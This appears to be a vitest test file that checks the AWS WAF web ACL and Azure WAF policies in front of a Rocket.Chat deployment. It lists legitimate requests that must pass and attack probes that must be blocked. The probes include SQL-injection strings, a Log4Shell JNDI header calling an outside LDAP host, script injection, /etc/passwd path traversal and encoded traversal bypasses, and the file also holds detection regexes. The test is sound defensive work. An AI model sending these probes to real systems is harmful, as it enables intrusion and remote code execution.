/**
 * The synthesized AWS WAF web ACL evaluated request by request: the statements this project
 * writes (rate rule, byte match on the normalised path, label match, and/or/not, rule action
 * overrides, override_action) are evaluated exactly as written in the stack JSON.
 *
 * What stays unproven: the managed groups' own signatures are AWS's and not public. Each group
 * is stood in for by the documented trigger of the rules these requests depend on (MANAGED), so
 * the test proves that our overrides, labels and exclusions let Rocket.Chat's requests through
 * *if* those rules fire on them, and that the probes reach a rule that blocks them *if* AWS's
 * signature matches them. The IP reputation list is empty here (it matches addresses, not requests).
 */
import { posix } from 'node:path';
import { describe, expect, it } from 'vitest';
import { ENVIRONMENTS } from '../config/environments';
import { loadEnvironments } from '../config/load';
import { webAclCapacity } from '../constructs/aws/web-acl-rules';
import { resources, synthExamples, type Json } from './helpers';

interface Request {
  readonly method: string;
  readonly path: string;
  readonly query?: string;
  readonly headers?: Readonly<Record<string, string>>;
  readonly body?: string;
}

interface ManagedRule {
  readonly rule: string;
  readonly label: string;
  readonly matches: (r: Request) => boolean;
}

const decode = (s: string) => decodeURIComponent(s.replace(/\+/g, ' '));
const sqli = (s: string) => /'\s*(or|and)\s+\d+\s*=\s*\d+|union\s+(all\s+)?select/i.test(s);
const xss = (s: string) => /<script|javascript:|\bon(error|load)\s*=/i.test(s);
const jndi = (s: string) => /\$\{jndi:/i.test(s);
const allHeaders = (r: Request) => Object.values(r.headers ?? {}).join('\n');

/** Stand-ins for AWS's signatures (AWS WAF developer guide, "AWS Managed Rules rule groups list"). */
const MANAGED: Readonly<Record<string, readonly ManagedRule[]>> = {
  AWSManagedRulesAmazonIpReputationList: [],
  AWSManagedRulesKnownBadInputsRuleSet: [
    { rule: 'Log4JRCE_HEADER', label: 'awswaf:managed:aws:known-bad-inputs:Log4JRCE_Header', matches: (r) => jndi(allHeaders(r)) },
    { rule: 'Log4JRCE_QUERYSTRING', label: 'awswaf:managed:aws:known-bad-inputs:Log4JRCE_QueryString', matches: (r) => jndi(decode(r.query ?? '')) },
  ],
  AWSManagedRulesCommonRuleSet: [
    { rule: 'NoUserAgent_HEADER', label: 'awswaf:managed:aws:core-rule-set:NoUserAgent_Header', matches: (r) => !r.headers?.['user-agent'] },
    // The ALB hands AWS WAF the first 8 KB of a body; the rule refuses bodies larger than that.
    { rule: 'SizeRestrictions_BODY', label: 'awswaf:managed:aws:core-rule-set:SizeRestrictions_Body', matches: (r) => Buffer.byteLength(r.body ?? '') > 8192 },
    { rule: 'CrossSiteScripting_BODY', label: 'awswaf:managed:aws:core-rule-set:CrossSiteScripting_Body', matches: (r) => xss(r.body ?? '') },
    { rule: 'GenericLFI_BODY', label: 'awswaf:managed:aws:core-rule-set:GenericLFI_Body', matches: (r) => /\.\.\//.test(r.body ?? '') },
    { rule: 'GenericRFI_BODY', label: 'awswaf:managed:aws:core-rule-set:GenericRFI_Body', matches: (r) => /https?:\/\/\d+\.\d+\.\d+\.\d+/.test(r.body ?? '') },
    { rule: 'EC2MetaDataSSRF_BODY', label: 'awswaf:managed:aws:core-rule-set:EC2MetaDataSSRF_Body', matches: (r) => (r.body ?? '').includes('169.254.169.254') },
  ],
  AWSManagedRulesSQLiRuleSet: [
    { rule: 'SQLi_QUERYARGUMENTS', label: 'awswaf:managed:aws:sql-database:SQLi_QueryArguments', matches: (r) => sqli(decode(r.query ?? '')) },
    { rule: 'SQLi_BODY', label: 'awswaf:managed:aws:sql-database:SQLi_Body', matches: (r) => sqli(r.body ?? '') },
  ],
};

const one = (v: unknown): Json => (Array.isArray(v) ? v[0] : v) as Json;

function transform(value: string, transformations: readonly Json[]): string {
  return [...transformations].sort((a, b) => a.priority - b.priority).reduce((v, t) => {
    switch (t.type) {
      case 'NONE': return v;
      case 'URL_DECODE': return decodeURIComponent(v);
      case 'LOWERCASE': return v.toLowerCase();
      // Collapses //, resolves ./ and ../ (AWS WAF text transformations); keeps a trailing slash.
      case 'NORMALIZE_PATH': return posix.normalize(v);
      default: throw new Error(`text transformation ${t.type} is not modelled`);
    }
  }, value);
}

function field(r: Request, f: Json): string {
  if ('uri_path' in f) return r.path;
  if ('query_string' in f) return r.query ?? '';
  if ('body' in f) return r.body ?? '';
  throw new Error(`field_to_match ${Object.keys(f).join()} is not modelled`);
}

function matches(statement: Json, r: Request, labels: ReadonlySet<string>): boolean {
  const [kind, raw] = Object.entries(statement)[0]!;
  const s = one(raw);
  switch (kind) {
    case 'and_statement': return (s.statement as Json[]).every((x) => matches(x, r, labels));
    case 'or_statement': return (s.statement as Json[]).some((x) => matches(x, r, labels));
    case 'not_statement': return !matches(one(s.statement), r, labels);
    case 'label_match_statement': return s.scope === 'LABEL' && labels.has(s.key);
    case 'byte_match_statement': {
      const value = transform(field(r, one(s.field_to_match)), s.text_transformation);
      const search = s.search_string as string;
      switch (s.positional_constraint) {
        case 'STARTS_WITH': return value.startsWith(search);
        case 'EXACTLY': return value === search;
        case 'CONTAINS': return value.includes(search);
        case 'ENDS_WITH': return value.endsWith(search);
        default: throw new Error(`positional constraint ${s.positional_constraint} is not modelled`);
      }
    }
    case 'regex_match_statement': {
      // AWS WAF uses RE2; the project writes only escaped literals, alternation and ^, which JavaScript reads alike.
      return new RegExp(s.regex_string as string).test(transform(field(r, one(s.field_to_match)), s.text_transformation));
    }
    default: throw new Error(`${kind} is not modelled: extend this evaluator with the statement you added`);
  }
}

interface Verdict {
  readonly action: 'ALLOW' | 'BLOCK';
  readonly by?: string;
  /** Rules that matched in count mode: what a count-mode ACL would have blocked. */
  readonly counted: readonly string[];
}

function evaluate(rules: readonly Json[], r: Request): Verdict {
  const labels = new Set<string>();
  const counted: string[] = [];
  for (const rule of [...rules].sort((a, b) => a.priority - b.priority)) {
    const statement = one(rule.statement);
    if ('rate_based_statement' in statement) continue; // one request never crosses a rate
    if ('managed_rule_group_statement' in statement) {
      const group = one(statement.managed_rule_group_statement);
      const model = MANAGED[group.name];
      if (!model) throw new Error(`managed group ${group.name} has no stand-in`);
      if (group.scope_down_statement && !matches(one(group.scope_down_statement), r, labels)) continue;
      const groupCounts = 'count' in one(rule.override_action);
      for (const m of model.filter((x) => x.matches(r))) {
        labels.add(m.label);
        const override = (group.rule_action_override ?? []).find((o: Json) => o.name === m.rule);
        const countOnly = groupCounts || (override && 'count' in one(override.action_to_use));
        if (countOnly) counted.push(`${rule.name}/${m.rule}`);
        else return { action: 'BLOCK', by: `${rule.name}/${m.rule}`, counted };
      }
      continue;
    }
    if (!matches(statement, r, labels)) continue;
    const action = one(rule.action);
    if ('block' in action) return { action: 'BLOCK', by: rule.name, counted };
    if ('allow' in action) return { action: 'ALLOW', by: rule.name, counted };
    counted.push(rule.name);
  }
  return { action: 'ALLOW', counted };
}

const stacks = synthExamples().stacks;
const rulesOf = (env: string): Json[] => {
  const [acl] = resources(stacks[`${env}-platform`]!, 'aws_wafv2_web_acl');
  expect(one(acl!.default_action)).toEqual({ allow: {} });
  return acl!.rule as Json[];
};

const browser = { 'user-agent': 'Mozilla/5.0 (X11; Linux x86_64) Rocket.Chat web', 'content-type': 'application/json' };
/** 200 KB of file bytes, with the kind of text binary content contains by chance. */
const fileBytes = `${'\x89PNG\r\n'}${'A'.repeat(100_000)}<script>' OR 1=1--${'B'.repeat(100_000)}`;
/** A pasted snippet: 9 KB of message text (over the 8 KB rule), HTML and SQL included. */
const longMessage = `Look at this: <script>alert(1)</script> and SELECT * FROM users WHERE '1' OR 1=1 ${'x'.repeat(9000)}`;
const ddpSend = JSON.stringify({ message: JSON.stringify({ msg: 'method', id: '7', method: 'sendMessage', params: [{ rid: 'GENERAL', msg: longMessage }] }) });

const legitimate: [string, Request][] = [
  ['a file upload (rooms.media, 200 KB multipart)', { method: 'POST', path: '/api/v1/rooms.media/GENERAL', headers: { ...browser, 'content-type': 'multipart/form-data; boundary=x' }, body: fileBytes }],
  ['a legacy upload (rooms.upload)', { method: 'POST', path: '/api/v1/rooms.upload/GENERAL', headers: browser, body: fileBytes }],
  ['a UFS file store upload', { method: 'POST', path: '/ufs/AmazonS3:Uploads/abc123', query: 'token=t&progress=0', headers: browser, body: fileBytes }],
  ['the DDP WebSocket upgrade', { method: 'GET', path: '/websocket', headers: { ...browser, upgrade: 'websocket', connection: 'Upgrade', 'sec-websocket-version': '13' } }],
  ['SockJS info', { method: 'GET', path: '/sockjs/info', query: 'cb=x1y2', headers: browser }],
  ['a SockJS frame carrying a long message', { method: 'POST', path: '/sockjs/123/abcdefgh/xhr_send', headers: browser, body: JSON.stringify([JSON.parse(ddpSend).message]) }],
  ['a 9 KB message through method.call (the web client)', { method: 'POST', path: '/api/v1/method.call/sendMessage', headers: browser, body: ddpSend }],
  ['a 9 KB message through chat.sendMessage (REST API)', { method: 'POST', path: '/api/v1/chat.sendMessage', headers: browser, body: JSON.stringify({ message: { rid: 'GENERAL', msg: longMessage } }) }],
  ['an incoming webhook (a 12 KB push payload with paths and links)', { method: 'POST', path: '/hooks/6a1b2c/Xk9mQ', headers: { 'user-agent': 'GitHub-Hookshot/a1b2c3d', 'content-type': 'application/json' },
    body: JSON.stringify({ ref: 'refs/heads/main', commits: [{ message: 'fix ../../lib path, see http://10.0.4.7:8080/build/17', diff: 'z'.repeat(12_000) }] }) }],
  ['an ops chat message about the metadata address and a local link', { method: 'POST', path: '/api/v1/method.call/sendMessage', headers: browser,
    body: JSON.stringify({ message: JSON.stringify({ msg: 'method', method: 'sendMessage', params: [{ rid: 'ops', msg: 'curl http://169.254.169.254/latest/meta-data from ../../tmp' }] }) }) }],
  ['the text sent with an uploaded file', { method: 'POST', path: '/api/v1/rooms.mediaConfirm/GENERAL/f1le1d', headers: browser, body: '{"msg":"","description":"<b>see</b> SELECT 1 OR 1=1"}' }],
  ['an ordinary REST call', { method: 'GET', path: '/api/v1/rooms.get', query: 'updatedSince=2026-12-01T00:00:00.000Z', headers: browser }],
  ['the health path', { method: 'GET', path: '/api/v1/info', headers: { 'user-agent': 'ELB-HealthChecker/2.0' } }],
];

const attacks: [string, Request, string][] = [
  ['an SQL-injection probe in the query string', { method: 'GET', path: '/api/v1/users.list', query: "query=%27%20OR%201%3D1--", headers: browser }, 'aws-sql-database/SQLi_QUERYARGUMENTS'],
  ['a Log4Shell probe in a header (known bad input)', { method: 'GET', path: '/api/v1/info', headers: { ...browser, 'x-api-version': '${jndi:ldap://203.0.113.9/a}' } }, 'aws-known-bad-inputs/Log4JRCE_HEADER'],
  ['SQL injection in a login body', { method: 'POST', path: '/api/v1/login', headers: browser, body: '{"user":"admin\' OR 1=1--","password":"x"}' }, 'body-rules-outside-rocketchat-paths'],
  ['a script in a profile update body', { method: 'POST', path: '/api/v1/users.updateOwnBasicInfo', headers: browser, body: '{"data":{"name":"<script>alert(1)</script>"}}' }, 'body-rules-outside-rocketchat-paths'],
  ['a path traversal in a body outside the message paths', { method: 'POST', path: '/api/v1/users.updateOwnBasicInfo', headers: browser, body: '{"data":{"username":"../../../etc/passwd"}}' }, 'body-rules-outside-rocketchat-paths'],
  ['a 20 KB body outside the upload and message paths', { method: 'POST', path: '/api/v1/users.update', headers: browser, body: `{"data":{"bio":"${'y'.repeat(20_000)}"}}` }, 'body-rules-outside-rocketchat-paths'],
  ['a body attack hidden behind an upload prefix (/ufs/../)', { method: 'POST', path: '/ufs/../api/v1/login', headers: browser, body: '{"user":"admin\' OR 1=1--"}' }, 'body-rules-outside-rocketchat-paths'],
  ['the same, URL-encoded (/ufs/%2e%2e/)', { method: 'POST', path: '/ufs/%2e%2e/api/v1/login', headers: browser, body: '{"user":"admin\' OR 1=1--"}' }, 'body-rules-outside-rocketchat-paths'],
  ['a request without a User-Agent on an upload path', { method: 'POST', path: '/api/v1/rooms.media/GENERAL', body: 'x' }, 'aws-common/NoUserAgent_HEADER'],
];

describe('AWS WAF web ACL of aws-prod (block mode), evaluated', () => {
  const rules = rulesOf('aws-prod');

  it.each(legitimate)('lets %s through', (_name, request) => {
    expect(evaluate(rules, request)).toMatchObject({ action: 'ALLOW' });
  });

  it.each(attacks)('blocks %s', (_name, request, by) => {
    expect(evaluate(rules, request)).toMatchObject({ action: 'BLOCK', by });
  });

  it('leaves the body rules on for the upload and message paths only in count mode, so they still label', () => {
    const verdict = evaluate(rules, legitimate[0]![1]);
    expect(verdict.counted).toEqual(['aws-common/SizeRestrictions_BODY', 'aws-common/CrossSiteScripting_BODY', 'aws-sql-database/SQLi_BODY']);
  });

  it('limits each client address to the configured rate, blocking', () => {
    const rate = rules.find((r) => r.name === 'rate-limit-per-client')!;
    expect(rate.action).toEqual({ block: {} });
    expect(rate.statement.rate_based_statement).toEqual({ limit: 20000, evaluation_window_sec: 300, aggregate_key_type: 'IP' });
  });

  it('stays within the 1500 capacity units a web ACL is priced for', () => {
    const [awsProd] = loadEnvironments(ENVIRONMENTS, 'aws-prod');
    expect(webAclCapacity(awsProd!.platform.waf)).toBeLessThanOrEqual(1500);
    const regexes = JSON.stringify(rules).match(/"regex_string":"((?:[^"\\]|\\.)*)"/g)!.map((m) => JSON.parse(`{${m}}`).regex_string as string);
    expect(regexes.length).toBeGreaterThan(0);
    for (const regex of regexes) expect(regex.length).toBeLessThanOrEqual(200);
  });

  it('pins a static version of every versioned managed group', () => {
    const groups = rules.map((r) => r.statement.managed_rule_group_statement).filter(Boolean);
    expect(groups.map((g: Json) => [g.name, g.version])).toEqual([
      ['AWSManagedRulesAmazonIpReputationList', undefined],
      ['AWSManagedRulesKnownBadInputsRuleSet', expect.stringMatching(/^Version_\d+\.\d+$/)],
      ['AWSManagedRulesCommonRuleSet', expect.stringMatching(/^Version_\d+\.\d+$/)],
      ['AWSManagedRulesSQLiRuleSet', expect.stringMatching(/^Version_\d+\.\d+$/)],
    ]);
  });
});

describe('AWS WAF web ACL of aws-dev (count mode), evaluated', () => {
  it('blocks nothing and counts what it would have blocked', () => {
    const rules = rulesOf('aws-dev');
    for (const [, request, by] of attacks) {
      const verdict = evaluate(rules, request);
      expect(verdict.action).toBe('ALLOW');
      expect(verdict.counted).toContain(by);
    }
  });
});

describe('AWS WAF logging and alarms', () => {
  const stack = stacks['aws-prod-platform']!;

  it('logs to an encrypted aws-waf-logs- group and never writes credentials', () => {
    const [group] = resources(stack, 'aws_cloudwatch_log_group').filter((g) => String(g.name).startsWith('aws-waf-logs-'));
    expect(group).toMatchObject({ name: 'aws-waf-logs-aws-prod', retention_in_days: 90, kms_key_id: expect.stringMatching(/^\$\{aws_kms_key\./) });
    const [logging] = resources(stack, 'aws_wafv2_web_acl_logging_configuration');
    expect(logging!.redacted_fields).toEqual([
      { single_header: { name: 'authorization' } },
      { single_header: { name: 'cookie' } },
      { single_header: { name: 'x-auth-token' } },
      { single_header: { name: 'x-user-id' } },
      { query_string: {} },
    ]);
  });

  it('alarms on blocks above the learned band and on any block of the health path', () => {
    const alarms = resources(stack, 'aws_cloudwatch_metric_alarm').filter((a) => String(a.alarm_name).includes('-waf-'));
    expect(alarms.map((a) => a.alarm_name).sort()).toEqual(['aws-prod-waf-blocked-above-normal', 'aws-prod-waf-blocks-health-path']);
    const [filter] = resources(stack, 'aws_cloudwatch_log_metric_filter');
    expect(filter!.pattern).toBe('{ ($.action = "BLOCK") && ($.httpRequest.uri = "/api/v1/info") }');
  });
});

describe('Azure WAF policies', () => {
  const policies = (env: string) => {
    const all = resources(stacks[`${env}-platform`]!, 'azurerm_web_application_firewall_policy');
    return ['edge', 'bodies'].map((name) => all.find((p) => p.name === `waf-${env}-${name}`));
  };

  it('inspects bodies everywhere except on the upload and message route, with the same rule sets and rate limit', () => {
    const [edge, bodies] = policies('azure-prod');
    expect(one(edge!.policy_settings)).toMatchObject({ enabled: true, mode: 'Prevention', request_body_check: true, request_body_enforcement: true });
    expect(one(bodies!.policy_settings)).toMatchObject({ enabled: true, mode: 'Prevention', request_body_check: false, request_body_enforcement: false });
    for (const p of [edge!, bodies!]) {
      expect(one(p.managed_rules).managed_rule_set).toEqual([{ type: 'Microsoft_DefaultRuleSet', version: '2.1' }, { type: 'Microsoft_BotManagerRuleSet', version: '1.1' }]);
      expect(p.custom_rules).toEqual([expect.objectContaining({ rule_type: 'RateLimitRule', rate_limit_threshold: 20000, rate_limit_duration: 'FiveMins', group_rate_limit_by: 'ClientAddr', action: 'Block' })]);
    }
    expect(one(policies('azure-dev')[0]!.policy_settings).mode).toBe('Detection');
  });

  it('makes both referable on the AGC, sends its logs to the workspace and alerts on blocks', () => {
    const stack = stacks['azure-prod-platform']!;
    expect(resources(stack, 'azurerm_application_load_balancer_security_policy').map((p) => p.web_application_firewall_policy_id).sort()).toEqual([
      expect.stringMatching(/^\$\{azurerm_web_application_firewall_policy\.cloud_edge_waf_bodies_[0-9A-F]+\.id\}$/),
      expect.stringMatching(/^\$\{azurerm_web_application_firewall_policy\.cloud_edge_waf_edge_[0-9A-F]+\.id\}$/),
    ]);
    const diagnostics = resources(stack, 'azurerm_monitor_diagnostic_setting').filter((d) => String(d.target_resource_id).includes('azurerm_application_load_balancer.'));
    expect(diagnostics).toEqual([expect.objectContaining({ log_analytics_workspace_id: '${data.terraform_remote_state.azure-prod-cluster-state.outputs.log_analytics_workspace_id}' })]);
    const alerts = resources(stack, 'azurerm_monitor_scheduled_query_rules_alert_v2');
    expect(alerts.map((a) => a.name).sort()).toEqual(['azure-prod-waf-blocked-above-normal', 'azure-prod-waf-blocks-health-path']);
    expect(one(alerts.find((a) => a.name === 'azure-prod-waf-blocks-health-path')!.criteria).query).toContain('RequestUri startswith "/api/v1/info"');
  });
});
